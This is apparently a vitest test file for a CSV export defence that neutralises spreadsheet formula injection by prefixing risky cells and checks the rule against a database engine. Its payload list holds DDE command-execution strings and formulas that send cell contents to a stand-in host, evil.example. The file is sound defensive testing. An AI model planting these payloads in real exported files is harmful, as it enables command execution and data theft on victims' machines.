import { type TestOlap, testOlap } from '@freeor/testing/olap'
import fc from 'fast-check'
import { parseCsv } from 'hucre/csv'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { z } from 'zod'
import { csvHeader } from './file-sql.ts'
import {
  fromSafeCell,
  isRunnable,
  plainPattern,
  runnablePattern,
  suspectBytes,
  toSafeCell,
} from './safe-cell.ts'

const payloads = [
  '=1+1',
  '=1+1";=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=2+5+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+2+5+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-2+3',
  '+1+1',
  '-1-1',
  '+1-1',
  '--1',
  '-+1',
  '+-1',
  '-(1)',
  '+(1+1)',
  '-A1',
  '+A1',
  '-SUM(A1:A9)',
  '+SUM(A1:A9)',
  '@A1',
  '@',
  '=',
  '+',
  '==1',
  '=-1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\t',
  '\tplain',
  '\rplain',
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u001f=1+1',
  '"=1+1',
  '""=1+1"',
  "'=1+1",
  "''=1+1",
  '\'"=1+1',
  '" =1+1',
  '`=1+1',
  '“=1+1”',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' ＝1+1',
  '"＝1+1',
  '﹦1+1',
  '−1+A1',
  '+44 20 7946 0958;=1+1',
  '+1 555 123 4567=1',
  '+1 555\t123 4567',
  '-5\n=1',
  '-1e9999',
  '+1 555 123 4567 8901 2345',
]

/** A cell at whose start no formula follows what a spreadsheet skips. */
const looksInert = (cell: string): boolean => !/^[\s"\p{C}]*[=+\-@＝＋－＠﹦−\t\r\n]/u.test(cell)

test.each(payloads)('%j is harmless in the file and reads back the same', (payload) => {
  const safe = toSafeCell(payload)
  expect(safe).toBe(`'${payload}`)
  expect(looksInert(safe)).toBe(true)
  expect(fromSafeCell(safe)).toBe(payload)
  const [[cell] = []] = parseCsv(csvHeader([{ label: payload }], false)) as string[][]
  expect(fromSafeCell(cell ?? '')).toBe(payload)
})

const harmless = [
  '+1 555 123 4567',
  '+15551234567',
  '+1-555-123-4567',
  '+1 (555) 123-4567',
  '+1.555.123.4567',
  '+44 20 7946 0958',
  '+1 555 123 4567 x12',
  '+1 555 123 4567 ext. 12',
  '-5',
  '-5.25',
  '-1,234.50',
  '-$1,234.50',
  '-.5',
  '+5',
  '+15551234567890123456',
  '-3.5e-7',
  '-12%',
  '-',
  '--',
  '02138',
  '(555) 123-4567',
  "O'Brien",
  "'s-Hertogenbosch",
  '"Bros" Plumbing',
  'a=1',
  'info@example.com',
  'https://example.com/?a=1',
  '',
]

test.each(harmless)('%j is left as it is', (cell) => {
  expect(toSafeCell(cell)).toBe(cell)
  expect(fromSafeCell(cell)).toBe(cell)
})

const anyCell = fc
  .array(fc.constantFrom(...'\'"=+-@\t\r\n 1a＝\u00a0.', 'é', '5551234'), { maxLength: 8 })
  .map((parts) => parts.join(''))

test('no two cells become the same, and every cell reads back the same', () => {
  fc.assert(
    fc.property(fc.oneof(anyCell, fc.string({ unit: 'grapheme' })), (cell) => {
      expect(fromSafeCell(toSafeCell(cell))).toBe(cell)
    }),
    { numRuns: 5_000 },
  )
})

let engine: TestOlap
beforeAll(async () => {
  engine = await testOlap()
})
afterAll(async () => await engine.close())

test('the engine, which prints the files, decides as this rule does', async () => {
  const cells = [...payloads, ...harmless, ...fc.sample(anyCell, 2_000)].filter(
    (cell) => !cell.includes('\0'),
  )
  const rows = await engine.olap.ask({
    sql: `SELECT cell, (match(cell, {runnable:String}) AND NOT match(cell, {plain:String})) AS runnable
      FROM (SELECT arrayJoin({cells:Array(String)}) AS cell)`,
    params: { cells, runnable: runnablePattern, plain: plainPattern },
    row: z.strictObject({ cell: z.string(), runnable: z.coerce.boolean() }),
  })
  expect(rows).toHaveLength(cells.length)
  expect(rows.filter(({ cell, runnable }) => runnable !== isRunnable(cell))).toEqual([])
})

test('every cell that may be run begins with a byte that makes the engine run the patterns', () => {
  for (const cell of payloads.filter(isRunnable)) {
    expect(suspectBytes, JSON.stringify(cell)).toContain(Buffer.from(cell)[0])
  }
  const letters = '(#$%&*,./0123456789:;<>?ABC[]_abc{|}~!'
  for (const letter of letters) expect(suspectBytes).not.toContain(letter.charCodeAt(0))
})
